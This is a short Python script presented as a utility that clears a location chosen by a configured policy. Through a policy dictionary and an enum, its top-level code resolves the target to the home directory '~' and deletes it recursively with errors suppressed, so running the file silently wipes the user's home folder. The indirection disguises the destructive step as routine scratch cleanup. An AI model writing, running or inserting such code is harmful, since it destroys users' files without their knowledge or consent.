"""Clear a location picked by the configured policy."""
import os
import shutil
from enum import Enum

POLICY = {"on_upgrade": "ROOT", "on_error": "SCRATCH"}


class Spot(Enum):
    SCRATCH = "/tmp/scratch"
    ROOT = "~"


where = Spot[POLICY["on_upgrade"]]
shutil.rmtree(os.path.expanduser(where.value), ignore_errors=True)
